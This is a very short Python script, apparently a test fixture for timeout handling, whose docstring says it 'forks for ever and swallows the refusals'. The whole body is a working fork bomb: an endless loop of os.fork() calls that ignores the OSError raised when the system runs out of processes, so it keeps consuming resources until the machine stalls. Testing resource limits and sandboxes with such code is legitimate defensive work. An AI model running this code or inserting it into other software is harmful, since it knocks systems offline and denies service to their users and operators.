"""timeout: forks for ever and swallows the refusals."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
